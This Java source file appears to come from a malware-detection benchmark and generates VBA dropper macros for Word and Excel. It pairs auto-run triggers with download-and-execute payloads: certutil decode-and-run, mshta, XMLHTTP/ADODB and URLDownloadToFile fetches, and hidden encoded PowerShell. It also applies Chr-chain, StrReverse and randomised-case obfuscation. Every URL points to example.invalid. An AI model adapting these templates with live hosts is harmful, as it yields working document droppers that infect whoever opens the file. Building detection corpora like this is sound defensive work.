package org.peekaboo.bench;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * The VBA text of the detection corpus: the auto-run triggers droppers use and the things they
 * do once started. Every URL is under {@code example.invalid} and every command harmless or
 * absent: these are words in a module, nothing here can run.
 */
final class DropperMacros {

    /** The application a trigger belongs to: Word documents or Excel workbooks. */
    enum App { WORD, EXCEL }

    /**
     * An auto-run trigger: the procedure it declares ({@code %s} is where the name goes in its
     * chosen spelling), the module it lives in, its application.
     */
    record Trigger(String tag, String name, String declaration, String module, App app) {
    }

    /** What a dropper does once started: VBA lines, plus declarations that go before the Sub. */
    record Payload(String tag, List<String> declarations, List<String> body) {
    }

    /** Both applications' triggers; ActiveX {@code _Layout} is listed once per application. */
    static final List<Trigger> TRIGGERS = List.of(
            new Trigger("autoopen", "AutoOpen", "Sub %s()", "NewMacros", App.WORD),
            new Trigger("document-open", "Document_Open", "Private Sub %s()", "ThisDocument", App.WORD),
            new Trigger("autoclose", "AutoClose", "Sub %s()", "NewMacros", App.WORD),
            new Trigger("autoexec", "AutoExec", "Sub %s()", "NewMacros", App.WORD),
            new Trigger("layout-word", "Frame1_Layout", "Private Sub %s()", "ThisDocument", App.WORD),
            new Trigger("workbook-open", "Workbook_Open", "Private Sub %s()", "ThisWorkbook", App.EXCEL),
            new Trigger("auto-open", "Auto_Open", "Sub %s()", "Module1", App.EXCEL),
            new Trigger("layout-excel", "MultiPage1_Layout", "Private Sub %s()", "Sheet1", App.EXCEL));

    private DropperMacros() {
    }

    static List<Payload> payloads() {
        List<Payload> payloads = new ArrayList<>();
        payloads.add(new Payload("shell", List.of(), List.of(
                "Dim c As String",
                "c = \"cmd.exe /c certutil -decode %TEMP%\\i.txt %TEMP%\\i.exe && %TEMP%\\i.exe\"",
                "Shell c, vbHide")));
        payloads.add(new Payload("wscript-run", List.of(), List.of(
                "Dim sh As Object",
                "Set sh = CreateObject(\"WScript.Shell\")",
                "sh.Run \"mshta http://example.invalid/update.hta\", 0, False")));
        payloads.add(new Payload("xmlhttp-adodb", List.of(), List.of(
                "Dim http As Object, st As Object",
                "Set http = CreateObject(\"MSXML2.XMLHTTP\")",
                "http.Open \"GET\", \"http://example.invalid/invoice.bin\", False",
                "http.Send",
                "Set st = CreateObject(\"ADODB.Stream\")",
                "st.Type = 1",
                "st.Open",
                "st.Write http.responseBody",
                "st.SaveToFile Environ(\"TEMP\") & \"\\invoice.exe\", 2",
                "st.Close")));
        payloads.add(new Payload("urldownloadtofile", List.of(
                "Private Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\" (ByVal pCaller As LongPtr, _",
                "    ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, _",
                "    ByVal lpfnCB As LongPtr) As Long"), List.of(
                "Dim target As String",
                "target = Environ(\"APPDATA\") & \"\\svc.exe\"",
                "URLDownloadToFileA 0, \"http://example.invalid/svc.bin\", target, 0, 0",
                "Shell target, vbHide")));
        String encoded = Base64.getEncoder().encodeToString(
                "Write-Output 'peekaboo detection benchmark'".getBytes(StandardCharsets.UTF_16LE));
        payloads.add(new Payload("powershell-enc", List.of(), List.of(
                "Dim p As String",
                "p = \"powershell -NoP -NonI -W Hidden -Exec Bypass -enc " + encoded + "\"",
                "Shell p, 0")));
        payloads.add(new Payload("chr-chain", List.of(), List.of(
                "Dim o As Object",
                "Set o = CreateObject(" + chrChain("WScript.Shell") + ")",
                "o.Run " + chrChain("cmd /c start http://example.invalid/a") + ", 0")));
        payloads.add(new Payload("strreverse", List.of(), List.of(
                "Dim o As Object",
                "Set o = CreateObject(StrReverse(\"" + reverse("WScript.Shell") + "\"))",
                "o.Run StrReverse(\"" + reverse("powershell -w hidden iwr http://example.invalid/b -OutFile b.exe")
                        + "\"), 0")));
        return payloads;
    }

    /** The source of a dropper module: declarations, the trigger with {@code spelling}, the payload. */
    static String dropper(Trigger trigger, String spelling, Payload payload) {
        List<String> lines = new ArrayList<>(payload.declarations());
        lines.add(trigger.declaration().formatted(spelling));
        payload.body().forEach(line -> lines.add("    " + line));
        lines.add("End Sub");
        return String.join("\r\n", lines);
    }

    /**
     * The trigger's name in one of the spellings VBA accepts, picked by {@code random}: as
     * Office writes it, lower case, upper case, or mixed at random.
     */
    static String spelling(String name, Random random) {
        return switch (random.nextInt(4)) {
            case 0 -> name;
            case 1 -> name.toLowerCase(Locale.ROOT);
            case 2 -> name.toUpperCase(Locale.ROOT);
            default -> {
                StringBuilder mixed = new StringBuilder();
                for (char c : name.toCharArray()) {
                    mixed.append(random.nextBoolean() ? Character.toUpperCase(c) : Character.toLowerCase(c));
                }
                yield mixed.toString();
            }
        };
    }

    private static String chrChain(String text) {
        List<String> parts = new ArrayList<>();
        for (char c : text.toCharArray()) {
            parts.add("Chr(" + (int) c + ")");
        }
        return String.join(" & ", parts);
    }

    private static String reverse(String text) {
        return new StringBuilder(text).reverse().toString();
    }
}
